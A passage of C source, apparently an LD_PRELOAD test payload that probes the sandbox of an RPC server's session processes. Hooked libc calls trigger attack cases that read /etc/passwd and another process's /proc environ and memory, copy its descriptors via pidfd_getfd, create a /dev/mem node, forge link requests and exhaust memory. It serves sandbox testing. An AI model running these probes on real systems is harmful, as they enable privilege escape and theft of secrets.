                                 "/dev/net/tun", "/dev/uinput", "/dev/dri/card0", "/dev/vhost-net",
                                 "/dev/ptmx", NULL};
    char name[128];
    for (int i = 0; devs[i]; i++) {
        struct stat st;
        if (stat(devs[i], &st) != 0) {
            /* absent here: in the session's view, or on the host (the harness drops those rows) */
            snprintf(name, sizeof name, "open %s read-write", devs[i]);
            step(name, -1, errno, "not in this process's view");
            continue;
        }
        snprintf(name, sizeof name, "open %s read-write", devs[i]);
        errno = 0;
        int fd = open(devs[i], O_RDWR | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
        step(name, fd, errno, NULL);
        if (fd < 0) {
            snprintf(name, sizeof name, "open %s read-only", devs[i]);
            errno = 0;
            fd = open(devs[i], O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
            step(name, fd, errno, NULL);
        }
        if (fd >= 0 && S_ISBLK(st.st_mode)) {
            char b[512];
            snprintf(name, sizeof name, "read the first sector of %s", devs[i]);
            errno = 0;
            STEP(name, pread(fd, b, sizeof b, 0));
        }
        if (fd >= 0) close(fd);
    }
    /* A file in /dev/shm: a channel to other sessions and to everything else on the host. */
    char path[128];
    snprintf(path, sizeof path, "/dev/shm/rpc-attack-%d", (int)getpid());
    errno = 0;
    int fd = open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0666);
    step("create a file in /dev/shm", fd, errno, NULL);
    if (fd >= 0) { close(fd); unlink(path); }
    snprintf(path, sizeof path, "/dev/shm/rpc-attack-node-%d", (int)getpid());
    errno = 0;
    long r = mknod(path, S_IFCHR | 0600, makedev(1, 1));
    step("mknod a /dev/mem node in /dev/shm", r, errno, NULL);
    if (r == 0) unlink(path);
}

static void case_net(void) {
    int port = (int)env_u64("RPC_ATTACK_PORT", 0);
    pid_t front = front_pid();
    errno = 0;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    step("socket(AF_INET, SOCK_STREAM)", s, errno, NULL);
    if (s >= 0) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        char name[96];
        snprintf(name, sizeof name, "connect to the front's port 127.0.0.1:%d", port);
        STEP(name, connect(s, (struct sockaddr *)&a, sizeof a));
        close(s);
    }
    errno = 0;
    s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    step("socket(AF_INET, SOCK_DGRAM)", s, errno, NULL);
    if (s >= 0) close(s);
    errno = 0;
    s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    step("socket(AF_UNIX)", s, errno, NULL);
    if (s >= 0) close(s);
    errno = 0;
    s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, 0);
    step("socket(AF_NETLINK)", s, errno, NULL);
    if (s >= 0) close(s);
    /* A pair within the process reaches nothing: a note, not a step. */
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) == 0) {
        say("ATTACK-INFO net socketpair(AF_UNIX) allowed (a pair within the process)");
        close(sv[0]);
        close(sv[1]);
    }
    /* Other processes through /proc. */
    DIR *d = opendir("/proc");
    if (!d) step("list processes via /proc", -1, errno, NULL);
    else {
        int procs = 0, sessions = 0, others = 0;
        struct dirent *e;
        while ((e = readdir(d))) {
            pid_t p = atoi(e->d_name);
            if (p <= 0) continue;
            procs++;
            if (p != getpid()) {
                char path[64], b[16];
                snprintf(path, sizeof path, "/proc/%d/cmdline", (int)p);
                if (read_file(path, b, sizeof b) >= 0) others++;
                if (cmdline_has(p, "--session-child")) sessions++;
            }
        }
        closedir(d);
        char detail[128];
        snprintf(detail, sizeof detail, "%d pids, %d other cmdlines readable, %d other sessions", procs, others, sessions);
        step("list processes via /proc", others > 0 ? 0 : -1, EACCES, detail);
    }
    char path[64], buf[65536];
    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)front);
    errno = 0;
    STEP("read the front's /proc/<pid>/cmdline", read_file(path, buf, sizeof buf));
    snprintf(path, sizeof path, "/proc/%d/environ", (int)front);
    errno = 0;
    STEP("read the front's /proc/<pid>/environ", read_file(path, buf, sizeof buf));
    snprintf(path, sizeof path, "/proc/%d/mem", (int)front);
    errno = 0;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    step("open the front's /proc/<pid>/mem", fd, errno, NULL);
    if (fd >= 0) close(fd);
    /* Take the front's descriptors (its listening socket among them). */
    errno = 0;
    int pfd = (int)syscall(SYS_pidfd_open, front, 0);
    if (pfd < 0) step("pidfd_getfd: copy the front's descriptors", -1, errno, "pidfd_open");
    else {
        int got = 0, listening = 0, e = 0;
        for (int t = 0; t < 256; t++) {
            int nfd = (int)syscall(SYS_pidfd_getfd, pfd, t, 0);
            if (nfd < 0) { if (errno != EBADF) e = errno; continue; }
            got++;
            int acc = 0;
            socklen_t l = sizeof acc;
            if (getsockopt(nfd, SOL_SOCKET, SO_ACCEPTCONN, &acc, &l) == 0 && acc) listening++;
            close(nfd);
        }
        char detail[96];
        snprintf(detail, sizeof detail, "%d descriptors, %d listening sockets", got, listening);
        step("pidfd_getfd: copy the front's descriptors", got ? 0 : -1, e ? e : EBADF, detail);
        close(pfd);
    }
    snprintf(path, sizeof path, "/proc/%d/fd/0", (int)front);
    errno = 0;
    fd = open(path, O_RDONLY | O_CLOEXEC);
    step("reopen the front's fd 0 through /proc/<pid>/fd", fd, errno, NULL);
    if (fd >= 0) close(fd);
}

/* ----- links and staging: the payload's own lines on the control line ----- */

#define MAX_FDS 4096
static dev_t snap_dev[MAX_FDS];
static ino_t snap_ino[MAX_FDS];
static int snap_max;

/* Remembers which object every descriptor names now. */
static void fd_snapshot(void) {
    struct rlimit rl;
    snap_max = MAX_FDS;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)MAX_FDS) snap_max = (int)rl.rlim_cur;
    for (int fd = 0; fd < snap_max; fd++) {
        struct stat st;
        if (fstat(fd, &st) == 0) { snap_dev[fd] = st.st_dev; snap_ino[fd] = st.st_ino; }
        else { snap_dev[fd] = 0; snap_ino[fd] = 0; }
    }
}

static int fd_is_new(int fd, struct stat *st) {
    if (fstat(fd, st) != 0) return 0;
    return st->st_dev != snap_dev[fd] || st->st_ino != snap_ino[fd];
}

/* A TCP socket connected to `port`. */
static int is_link_to(int fd, const struct stat *st, int port) {
    if (!S_ISSOCK(st->st_mode)) return 0;
    struct sockaddr_storage ss;
    socklen_t len = sizeof ss;
    if (getpeername(fd, (struct sockaddr *)&ss, &len) != 0) return 0;
    if (ss.ss_family == AF_INET) return ntohs(((struct sockaddr_in *)&ss)->sin_port) == port;
    if (ss.ss_family == AF_INET6) return ntohs(((struct sockaddr_in6 *)&ss)->sin6_port) == port;
    return 0;
}

/* A memfd (seals readable): the front's staging file. */
static int is_staging(int fd, const struct stat *st) {
    if (!S_ISREG(st->st_mode) || fcntl(fd, F_GET_SEALS) < 0) return 0;
    char path[64], name[256];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, name, sizeof name - 1);
    if (n <= 0) return 1; /* no /proc: a sealable regular file it did not have before is it */
    name[n] = 0;
    return strstr(name, "rpc-cache-store") != NULL;
}

/* Waits up to `wait` s for a descriptor not in the snapshot: a link to `port` (port > 0) or a
 * staging file (port == 0). Returns it, or -1. */
static int wait_new_fd(int port, double wait) {
    double t0 = now_s();
    struct timespec ts = {0, 5 * 1000 * 1000};
    for (;;) {
        for (int fd = 3; fd < snap_max; fd++) {
            struct stat st;
            if (!fd_is_new(fd, &st)) continue;
            if (port > 0 ? is_link_to(fd, &st, port) : is_staging(fd, &st)) {
                snap_dev[fd] = st.st_dev; /* found once */
                snap_ino[fd] = st.st_ino;
                return fd;
            }
        }
        if (now_s() - t0 > wait) return -1;
        syscall(SYS_nanosleep, &ts, NULL);
    }
}

/* One line of the session's control line, written whole (a line the session writes is one
 * write too). */
static long ctl_send(const char *line) { return write_all(1, line, strlen(line)); }

/* `C <hex of COMM_INIT's 80 bytes>`: u32 device, rank, world, port, char host[64]. */
static long ask_link(uint32_t device, uint32_t rank, uint32_t port, const char *host) {
    unsigned char b[80];
    memset(b, 0, sizeof b);
    uint32_t w[4] = {device, rank, 2, port}; /* x86-64/aarch64: little-endian already */
    memcpy(b, w, sizeof w);
    if (host) strncpy((char *)b + 16, host, 63);
    char line[2 + 160 + 2];
    line[0] = 'C';
    line[1] = ' ';
    for (int i = 0; i < 80; i++) snprintf(line + 2 + 2 * i, 3, "%02x", b[i]);
    line[162] = '\n';
    line[163] = 0;
    return ctl_send(line);
}

static void sleep_s(double s) {
    struct timespec ts = {(time_t)s, (long)((s - (double)(time_t)s) * 1e9)};
    syscall(SYS_nanosleep, &ts, NULL);
}

/* Reads what waits on `fd` within `wait` s (MSG_DONTWAIT polling; never blocks). */
static long read_some(int fd, char *buf, size_t cap, double wait) {
    double t0 = now_s();
    long got = 0;
    while (now_s() - t0 < wait && got < (long)cap) {
        long r = syscall(SYS_recvfrom, fd, buf + got, cap - (size_t)got, MSG_DONTWAIT, NULL, NULL);
        if (r > 0) { got += r; continue; }
        if (r == 0) break;
        if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) return got ? got : -1;
        sleep_s(0.01);
    }
    return got;
}

/* Printable start of `b` (no parentheses: the harness reads details up to the first ')'). */
static void printable(char *out, size_t cap, const char *b, long n) {
    size_t k = 0;
    for (long i = 0; i < n && k + 1 < cap; i++)
        out[k++] = (b[i] >= 32 && b[i] < 127 && b[i] != '(' && b[i] != ')') ? b[i] : '.';
    out[k] = 0;
}

static int step_wanted(const char *st) {
    const char *only = getenv("RPC_ATTACK_STEP");
    return !only || !*only || !strcmp(only, st);
}

/* A request the front must answer by killing the process: asked, then 3 s to see whether this
 * process is still here (a SUCCEEDED line is then the front's failure). */
static void must_be_killed(const char *st, int fd, const char *what) {
    char detail[400];
    if (fd >= 0) {
        /* A link it got: what answers on it (the metrics page: a GET first). */
        static const char get[] = "GET /metrics HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n";
        syscall(SYS_sendto, fd, get, sizeof get - 1, MSG_NOSIGNAL | MSG_DONTWAIT, NULL, 0);
        char b[4096], p[100];
        long n = read_some(fd, b, sizeof b, 2.0);
        printable(p, sizeof p, b, n > 0 ? n : 0);
        snprintf(detail, sizeof detail, "not killed; %s: a socket, %ld bytes read: %s", what, n, p);
    } else {
        sleep_s(3.0);
        snprintf(detail, sizeof detail, "not killed 3 s after asking; %s", what);
    }
    step(st, 0, 0, detail);
}

static void case_links(void) {
    int own = (int)env_u64("RPC_ATTACK_PORT", 0);
    int banner = (int)env_u64("RPC_ATTACK_BANNER_PORT", 0), fake = (int)env_u64("RPC_ATTACK_FAKE_RANK0_PORT", 0);
    int chosen = (int)env_u64("RPC_ATTACK_CHOSEN_PORT", 0), metrics = (int)env_u64("RPC_ATTACK_METRICS_PORT", 0);
    int want = (int)env_u64("RPC_ATTACK_LINKS", 40);
    say("ATTACK-INFO links port %d (rank 0 may listen on %d only); greeting service on %d, fake rank 0 on %d, "
        "chosen rank-0 port %d, --metrics %d", own, own + 1000, banner, fake, chosen, metrics);
    char detail[400];
    if (step_wanted("main") && banner) {
        const char *st = "rank 1 to a loopback service that greets first, port inside the policy";
        fd_snapshot();
        long r = ask_link(0, 1, (uint32_t)banner, "127.0.0.1");
        int fd = r < 0 ? -1 : wait_new_fd(banner, 3.0);
        if (fd < 0) step(st, -1, r < 0 ? errno : ENOTCONN, "no socket within 3 s");
        else {
            char b[256], p[100];
            long n = read_some(fd, b, sizeof b, 1.0);
            printable(p, sizeof p, b, n > 0 ? n : 0);
            snprintf(detail, sizeof detail, "a socket; %ld banner bytes read: %s", n, p);
            step(st, n > 0 ? 0 : -1, ENODATA, detail);
        }
    }
    if (step_wanted("main") && fake) {
        char st[160];
        snprintf(st, sizeof st, "%d links for device 0 to a ggml rank 0: at most one still works", want);
        int fds[256], got = 0, working = 0, eof = 0, other = 0, e = 0;
        if (want > 256) want = 256;
        double t0 = now_s();
        for (int i = 0; i < want; i++) {
            fd_snapshot();
            if (ask_link(0, 1, (uint32_t)fake, "127.0.0.1") < 0) { e = errno; break; }
            int fd = wait_new_fd(fake, 3.0);
            if (fd >= 0) fds[got++] = fd;
        }
        double dt = now_s() - t0;
        for (int i = 0; i < got; i++) {
            char c;
            long r = syscall(SYS_recvfrom, fds[i], &c, 1, MSG_PEEK | MSG_DONTWAIT, NULL, NULL);
            if (r > 0 || (r < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))) working++;
            else if (r == 0) eof++;
            else other++;
        }
        snprintf(detail, sizeof detail, "asked %d in %.1f s, got %d sockets: %d still work, %d read EOF, %d fail",
                 want, dt, got, working, eof, other);
        step(st, working > 1 ? 0 : -1, e ? e : ESHUTDOWN, detail);
    }
    if (step_wanted("main") && chosen) {
        const char *st = "rank 0 on a port the session chose, must be killed";
        say("ATTACK-TRY links %s", st);
        fd_snapshot();
        long r = ask_link(0, 0, (uint32_t)chosen, "");
        if (r < 0) step(st, -1, errno, "cannot write the control line");
        else {
            snprintf(detail, sizeof detail, "a front that obeys listens on port %d for it", chosen);
            must_be_killed(st, -1, detail);
        }
    }
    if (step_wanted("metrics") && metrics) {
        const char *st = "rank 1 to the server's own --metrics port, must be killed";
        say("ATTACK-TRY links %s", st);
        fd_snapshot();
        long r = ask_link(0, 1, (uint32_t)metrics, "127.0.0.1");
        if (r < 0) step(st, -1, errno, "cannot write the control line");
        else must_be_killed(st, wait_new_fd(metrics, 3.0), "the metrics port");
    }
}

/* Bytes a kept staging file still makes reachable: its size, and what it pins (allocated). */
static void staging_sum(const int *fds, int n, unsigned long long *size, unsigned long long *pinned) {
    *size = *pinned = 0;
    for (int i = 0; i < n; i++) {
        struct stat st;
        if (fstat(fds[i], &st) != 0) continue;
        *size += (unsigned long long)st.st_size;
        *pinned += (unsigned long long)st.st_blocks * 512ULL;
    }
}

static void case_staging(void) {
    unsigned long long budget = env_u64("RPC_ATTACK_BUDGET", 0);
    int rounds = (int)env_u64("RPC_ATTACK_STAGING_ROUNDS", 20);
    if (rounds > 256) rounds = 256;
    if (!budget) { say("ATTACK-INFO staging no RPC_ATTACK_BUDGET"); return; }
    unsigned long long n = budget / 3 / 4096 * 4096;
    say("ATTACK-INFO staging budget %llu MiB: %d rounds of W %llu MiB, filled, D, kept", budget / MIB, rounds, n / MIB);
    char line[64], detail[400];
    int fds[256], got = 0, none = 0;
    size_t chunk = 8 * MIB;
    char *buf = malloc(chunk);
    if (!buf) return;
    double t0 = now_s();
    for (int i = 0; i < rounds; i++) {
        fd_snapshot();
        snprintf(line, sizeof line, "W %llu\n", n);
        if (ctl_send(line) < 0) break;
        /* The front answers once the store before is done (one per session). */
        int fd = wait_new_fd(0, 60.0);
        if (fd < 0) { none++; continue; } /* `X`: no D then (a D without W ends the session) */
        memset(buf, 0xa5 ^ i, chunk);    /* each upload its own bytes */
        for (unsigned long long off = 0; off < n; off += chunk) {
            size_t k = n - off < chunk ? (size_t)(n - off) : chunk;
            if (pwrite(fd, buf, k, (off_t)off) < 0) break;
        }
        fds[got++] = fd;
        if (ctl_send("D\n") < 0) break;
    }
    free(buf);
    double dt = now_s() - t0;
    unsigned long long size, pinned;
    staging_sum(fds, got, &size, &pinned);
    unsigned long long reach = size > pinned ? size : pinned;
    char st[200];
    snprintf(st, sizeof st, "%d staging files filled, stored and kept: reachable bytes at most 2x the budget", rounds);
    snprintf(detail, sizeof detail, "%d files in %.1f s, %d refused; kept: %llu MiB by size, %llu MiB pinned; "
             "budget %llu MiB, bound %llu MiB; a front that never empties them: %llu MiB",
             got, dt, none, size / MIB, pinned / MIB, budget / MIB, 2 * budget / MIB, (unsigned long long)got * n / MIB);
    step(st, reach > 2 * budget ? 0 : -1, EDQUOT, detail);
    sleep_s(2.0);
    staging_sum(fds, got, &size, &pinned);
    say("ATTACK-INFO staging 2 s later: %llu MiB by size, %llu MiB pinned", size / MIB, pinned / MIB);
    /* A fresh one sealed against shrinking before D: the front could not empty it. */
    const char *sst = "F_SEAL_SHRINK on a fresh staging file before D, must be killed";
    fd_snapshot();
    snprintf(line, sizeof line, "W %llu\n", n);
    int fd = ctl_send(line) < 0 ? -1 : wait_new_fd(0, 60.0);
    if (fd < 0) { say("ATTACK-INFO staging no staging file for the seal step"); return; }
    errno = 0;
    long r = fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK);
    if (r < 0) {
        /* No D: the front empties the unfinished file when the session ends (no store). */
        step(sst, -1, errno, "the seal itself refused: the front never sees one");
        return;
    }
    say("ATTACK-INFO staging sealed a staging file against shrinking");
    say("ATTACK-TRY staging %s", sst);
    if (ctl_send("D\n") < 0) { step(sst, -1, errno, "cannot write D"); return; }
    sleep_s(3.0);
    struct stat sb;
    fstat(fd, &sb);
    snprintf(detail, sizeof detail, "not killed 3 s after D; the file holds %lld bytes", (long long)sb.st_size);
    step(sst, 0, 0, detail);
}

static void *case_thread_main(void *arg);

/* The thread case: a thread that predates the sandbox. */
static void thread_attacks(void) {
    const char *canary = getenv("RPC_ATTACK_CANARY");
    char buf[4096];
    errno = 0;
    STEP("read /etc/passwd from a thread started before the sandbox", read_file("/etc/passwd", buf, sizeof buf));
    if (canary) {
        errno = 0;
        STEP("read the canary from that thread", read_file(canary, buf, sizeof buf));
        errno = 0;
        int fd = open(canary, O_WRONLY | O_APPEND | O_CLOEXEC);
        step("open the canary for writing from that thread", fd, errno, NULL);
        if (fd >= 0) close(fd);
    }
    char path[128];
    snprintf(path, sizeof path, "/tmp/rpc-attack-thread-%d", (int)getpid());
    errno = 0;
    int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    step("create a file in /tmp from that thread", fd, errno, NULL);
    if (fd >= 0) { close(fd); unlink(path); }
    errno = 0;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    step("socket() from that thread", s, errno, NULL);
    if (s >= 0) close(s);
}

static void *thread_main(void *arg) {
    (void)arg;
    in_payload = 1;
    struct timespec ts = {0, 10 * 1000 * 1000};
    double t0 = now_s();
    while (!sandbox_up()) {
        if (now_s() - t0 > 120) {
            say("ATTACK-INFO thread the sandbox never came up on this thread within 120 s");
            say("ATTACK-END thread");
            return NULL;
        }
        syscall(SYS_nanosleep, &ts, NULL);
    }
    say("ATTACK-BEGIN thread");
    thread_attacks();
    say("ATTACK-END thread");
    return NULL;
}

static void run_case(void) {
    say("ATTACK-BEGIN %s", attack_case);
    if (!strcmp(attack_case, "signal")) case_signal();
    else if (!strcmp(attack_case, "cache")) case_cache();
    else if (!strcmp(attack_case, "symlink")) case_symlink();
    else if (!strcmp(attack_case, "terminal")) case_terminal();
    else if (!strcmp(attack_case, "chmod")) case_chmod();
    else if (!strcmp(attack_case, "flood")) case_flood();
    else if (!strcmp(attack_case, "memory")) case_memory();
    else if (!strcmp(attack_case, "devices")) case_devices();
    else if (!strcmp(attack_case, "net")) case_net();
    else if (!strcmp(attack_case, "links")) case_links();
    else if (!strcmp(attack_case, "staging")) case_staging();
    else say("ATTACK-INFO %s unknown case", attack_case);
    say("ATTACK-END %s", attack_case);
}

static void maybe_attack(void) {
    if (!attacker || in_payload || atomic_load(&fired)) return;
    in_payload = 1;
    int up = sandbox_up();
    static atomic_int dbg;
    if (getenv("RPC_ATTACK_DEBUG") && atomic_fetch_add(&dbg, 1) < 50)
        say("ATTACK-INFO %s hook in thread %ld, PR_GET_SECCOMP %d", attack_case, (long)syscall(SYS_gettid), up);
    int expect = 0;
    if (up && atomic_compare_exchange_strong(&fired, &expect, 1)) {
        if (!strcmp(attack_case, "links") || !strcmp(attack_case, "staging")) {
            /* The front's answers must go on being read (perhaps by this very thread). */
            pthread_t t;
            pthread_attr_t a;
            pthread_attr_init(&a);
            pthread_attr_setdetachstate(&a, PTHREAD_CREATE_DETACHED);
            int e = pthread_create(&t, &a, case_thread_main, NULL);
            if (e != 0) {
                say("ATTACK-INFO %s cannot start its thread (%s): runs here", attack_case, ename(e));
                run_case();
            }
        } else run_case();
    }
    in_payload = 0;
}

static void *case_thread_main(void *arg) {
    (void)arg;
    in_payload = 1;
    run_case();
    return NULL;
}

__attribute__((constructor)) static void payload_init(void) {
    const char *c = getenv("RPC_ATTACK");
    if (!c || !*c || !is_session_child() || !peer_is_attacker()) return;
    attack_case = c;
    attacker = 1;
    say("ATTACK-INFO %s payload armed in session process %d", attack_case, (int)getpid());
    if (!strcmp(c, "thread")) {
        atomic_store(&fired, 1); /* the hooks do nothing; the thread acts */
        pthread_t t;
        pthread_attr_t a;
        pthread_attr_init(&a);
        pthread_attr_setdetachstate(&a, PTHREAD_CREATE_DETACHED);
        if (pthread_create(&t, &a, thread_main, NULL) != 0)
            say("ATTACK-INFO thread cannot start the thread");
    }
}

/* ---------- interposed calls ---------- */

#define REAL(ret, name, ...)                                       \
    static ret (*real_##name)(__VA_ARGS__);                        \
    if (!real_##name) real_##name = (ret(*)(__VA_ARGS__))dlsym(RTLD_NEXT, #name)

ssize_t write(int fd, const void *b, size_t n) {
    REAL(ssize_t, write, int, const void *, size_t);
    maybe_attack();
    return real_write(fd, b, n);
}
ssize_t writev(int fd, const struct iovec *v, int c) {
    REAL(ssize_t, writev, int, const struct iovec *, int);
    maybe_attack();
    return real_writev(fd, v, c);
}
ssize_t read(int fd, void *b, size_t n) {
    REAL(ssize_t, read, int, void *, size_t);
    maybe_attack();
    return real_read(fd, b, n);
}
ssize_t send(int fd, const void *b, size_t n, int f) {
    REAL(ssize_t, send, int, const void *, size_t, int);
    maybe_attack();
    return real_send(fd, b, n, f);
}
ssize_t sendto(int fd, const void *b, size_t n, int f, const struct sockaddr *a, socklen_t l) {
    REAL(ssize_t, sendto, int, const void *, size_t, int, const struct sockaddr *, socklen_t);
    maybe_attack();
    return real_sendto(fd, b, n, f, a, l);
}
ssize_t sendmsg(int fd, const struct msghdr *m, int f) {
    REAL(ssize_t, sendmsg, int, const struct msghdr *, int);
    maybe_attack();
    return real_sendmsg(fd, m, f);
}
ssize_t recv(int fd, void *b, size_t n, int f) {
    REAL(ssize_t, recv, int, void *, size_t, int);
    maybe_attack();
    return real_recv(fd, b, n, f);
}
ssize_t recvfrom(int fd, void *b, size_t n, int f, struct sockaddr *a, socklen_t *l) {
    REAL(ssize_t, recvfrom, int, void *, size_t, int, struct sockaddr *, socklen_t *);
    maybe_attack();
    return real_recvfrom(fd, b, n, f, a, l);
}
ssize_t recvmsg(int fd, struct msghdr *m, int f) {
    REAL(ssize_t, recvmsg, int, struct msghdr *, int);
    maybe_attack();
    return real_recvmsg(fd, m, f);
}
int poll(struct pollfd *p, nfds_t n, int t) {
    REAL(int, poll, struct pollfd *, nfds_t, int);
    maybe_attack();
    return real_poll(p, n, t);
}
int epoll_wait(int e, struct epoll_event *ev, int n, int t) {
    REAL(int, epoll_wait, int, struct epoll_event *, int, int);
    maybe_attack();
    return real_epoll_wait(e, ev, n, t);
}
int nanosleep(const struct timespec *a, struct timespec *b) {
    REAL(int, nanosleep, const struct timespec *, struct timespec *);
    maybe_attack();
    return real_nanosleep(a, b);
}
int clock_nanosleep(clockid_t c, int f, const struct timespec *a, struct timespec *b) {
    REAL(int, clock_nanosleep, clockid_t, int, const struct timespec *, struct timespec *);
    maybe_attack();
    return real_clock_nanosleep(c, f, a, b);
}
